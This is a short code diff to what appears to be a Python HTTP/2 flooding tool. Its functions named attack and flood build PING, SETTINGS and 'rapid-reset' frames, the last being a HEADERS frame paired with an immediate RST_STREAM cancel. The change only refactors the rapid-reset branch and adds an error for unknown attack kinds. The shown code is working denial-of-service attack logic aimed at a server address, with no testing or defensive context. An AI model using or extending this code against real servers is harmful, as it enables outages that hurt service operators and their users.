@@ -52,7 +52,9 @@ def attack(kind: str, stream: int) -> bytes:
         return frame(PING, 0, 0, b"12345678")
     if kind == "settings":
         return frame(SETTINGS, 0, 0, b"")
-    return frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+    if kind == "rapid-reset":
+        return frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+    raise ValueError(f"there is no attack {kind!r}")
 
 
 def flood(address: str, kind: str) -> int:
